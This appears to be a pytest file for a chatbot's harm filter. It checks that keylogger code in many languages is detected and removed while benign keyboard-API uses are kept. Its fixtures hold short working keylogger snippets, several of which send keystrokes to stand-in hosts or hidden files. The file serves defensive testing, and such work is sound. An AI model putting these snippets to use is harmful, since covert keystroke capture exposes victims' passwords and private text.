"""Keystroke capture is a keylogger whatever the tool or language (review13 W19).

A key source (AutoHotkey Input/InputHook/Hotkey loops, Win32 polling and low-level hooks,
X11/evdev reads, page key listeners, macOS taps) feeding a sink (a file, the network, the
clipboard) is removed from a draft, fenced or in inline code; the same APIs where nothing is
captured stay (a game's keys, one hotkey for one's own tool, a test typing keys, a scanner
that lists hooking programs).
"""

from __future__ import annotations

import pytest

from bot.mentor.guards.harm_decoded import scan_code
from bot.mentor.guards.harm_prose import ProseRule
from bot.mentor.guards.safety import strip_harm
from bot.mentor.i18n import Catalog

CAPTURE = {
    "ahk_input_to_network": (
        "autohotkey",
        "SetBatchLines, -1\nwhile true\n{\n  Input, pressed, L1 V B\n"
        "  UrlDownloadToFile, http://keys.example-sync.com/p?c=%pressed%, NUL\n}",
    ),
    "ahk_v2_onkeydown_log": (
        "ahk",
        'hk := InputHook("V L0")\nhk.KeyOpt("{All}", "N")\n'
        'hk.OnKeyDown := (h, vk, sc) => FileAppend(GetKeyName(Format("vk{:x}", vk)), "D:\\\\x.txt")\n'
        "hk.Start()",
    ),
    "ahk_hotkey_per_letter": (
        "",
        'for i, letter in StrSplit("abcdefghijklmnopqrstuvwxyz")\n'
        '    Hotkey("~" letter, Save)\nSave(name) {\n'
        '    FileAppend(name, EnvGet("TEMP") "\\k.dat")\n}\nLoop {\n  Sleep 1000\n}',
    ),
    "c_keystate_to_socket": (
        "c",
        "SOCKET s = connect_home();\nwhile (1) {\n  for (int key = 0x08; key <= 0xFE; ++key) {\n"
        "    if (GetAsyncKeyState(key) == -32767) send(s, (char*)&key, 1, 0);\n  }\n  Sleep(5);\n}",
    ),
    "csharp_ll_hook_upload": (
        "cs",
        "IntPtr id = SetWindowsHookEx(WH_KEYBOARD_LL, callback, IntPtr.Zero, 0);\n"
        "// in callback\nbuffer.Append((char)Marshal.ReadInt32(lParam));\n"
        'await new HttpClient().PostAsync("https://collect.example.org/in", '
        "new StringContent(buffer.ToString()));",
    ),
    "powershell_keystate_clipboard": (
        "ps1",
        "$sig = '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int v);'\n"
        "$api = Add-Type -MemberDefinition $sig -Name U -Namespace X -PassThru\n"
        "$typed = ''\nwhile ($true) { 65..90 | % { if ($api::GetAsyncKeyState($_) -eq -32767) "
        "{ $typed += [char]$_ ; Set-Clipboard $typed } } }",
    ),
    "shell_evdev_to_file": (
        "bash",
        "sudo cat /dev/input/by-path/platform-i8042-serio-0-event-kbd >> /var/tmp/.cache.bin &",
    ),
    "x11_keymap_poll": (
        "python",
        "from Xlib import display\nd = display.Display()\nwith open('/tmp/.x', 'ab') as out:\n"
        "    while True:\n        out.write(bytes(d.query_keymap()))\n"
        "        # same as XQueryKeymap in C\n",
    ),
    "page_keyup_websocket": (
        "html",
        "<script>\nconst ws = new WebSocket('wss://live-chat-widget.example.io/s');\n"
        'document.addEventListener("keyup", ev => ws.send(ev.key));\n</script>',
    ),
    "macos_global_monitor": (
        "swift",
        "NSEvent.addGlobalMonitorForEvents(matching: .keyDown) { event in\n"
        '    let url = URL(string: "https://198.51.100.40/k")!\n'
        '    var req = URLRequest(url: url); req.httpMethod = "POST"\n'
        "    req.httpBody = event.characters?.data(using: .utf8)\n"
        "    URLSession.shared.dataTask(with: req).resume()\n}",
    ),
}

LOOK_ALIKES = {
    "canvas_game": (
        "js",
        "window.addEventListener('keydown', (e) => {\n  if (e.code === 'Space') ship.fire();\n"
        "  fetch('/api/scores', {method: 'POST', body: JSON.stringify({score})});\n});",
    ),
    "own_app_hotkey": (
        "autohotkey",
        "#IfWinActive ahk_exe notepad.exe\n^+d::\n    FormatTime, now,, yyyy-MM-dd\n"
        "    SendInput, %now%\nreturn",
    ),
    "test_types_keys": (
        "python",
        "import pyautogui\n\ndef test_search_box(app, tmp_path):\n    pyautogui.write('query')\n"
        "    pyautogui.press('enter')\n    (tmp_path / 'log.txt').write_text(app.status)",
    ),
    "hook_scanner": (
        "powershell",
        "# find binaries that import keyboard-hook APIs\n"
        "Get-ChildItem $env:ProgramData -Recurse -Filter *.exe | ForEach-Object {\n"
        "  if (Select-String -Path $_.FullName -SimpleMatch 'SetWindowsHookExW' -Quiet) { $_.FullName }\n"
        "} | Out-File suspects.txt",
    ),
    "c_game_arrow_keys": (
        "c",
        "while (running) {\n  if (GetAsyncKeyState(VK_LEFT) & 0x8000) player.x -= 1;\n"
        "  if (GetAsyncKeyState(VK_ESCAPE)) running = 0;\n  render(); Sleep(16);\n}\n"
        'FILE *f = fopen("save.dat", "wb"); fwrite(&player, sizeof player, 1, f);',
    ),
}


@pytest.mark.parametrize("name", sorted(CAPTURE))
def test_keys_captured_into_a_sink_are_a_keylogger_in_any_tool(name: str) -> None:
    language, code = CAPTURE[name]
    assert "keylogger" in scan_code(code, language)
    text = f"Do this first:\n\n```{language}\n{code}\n```\n\nThen measure with timeit."
    result = strip_harm(text)
    assert code not in result.text
    assert "measure with timeit" in result.text


@pytest.mark.parametrize("name", sorted(LOOK_ALIKES))
def test_the_same_apis_where_nothing_is_captured_stay(name: str) -> None:
    language, code = LOOK_ALIKES[name]
    assert "keylogger" not in scan_code(code, language)
    text = f"Here:\n\n```{language}\n{code}\n```"
    assert code in strip_harm(text).text


@pytest.fixture(scope="module")
def rule() -> ProseRule:
    from bot.settings import DEFAULT_CONFIG_DIR  # noqa: PLC0415

    return ProseRule.from_catalog(Catalog.load(DEFAULT_CONFIG_DIR).languages)


@pytest.mark.parametrize(
    ("language", "line"),
    [
        (
            "de",
            "2. Starte `Input, t, L1 V` in einer Schleife und hänge mit `FileAppend, %t%, log.txt` an.",
        ),
        (
            "ja",
            "2. `while(1){ if(GetAsyncKeyState(k)) ...}` で全キーを読み、`fputc(k, fp)` で書き出します。",
        ),
    ],
)
def test_a_keylogger_spread_over_inline_code_spans_goes(
    rule: ProseRule, language: str, line: str
) -> None:
    text = f"1. Mesure d'abord.\n{line}\n3. Compare."
    result = strip_harm(text, rule)
    assert "keylogger" in result.harms
    assert line not in result.text


def test_one_hotkey_for_ones_own_tool_in_inline_code_stays(rule: ProseRule) -> None:
    line = "2. Bind `keyboard.add_hotkey('f9', run_benchmark)` and log the timings with `logging`."
    assert line in strip_harm(f"1. Measure.\n{line}", rule).text
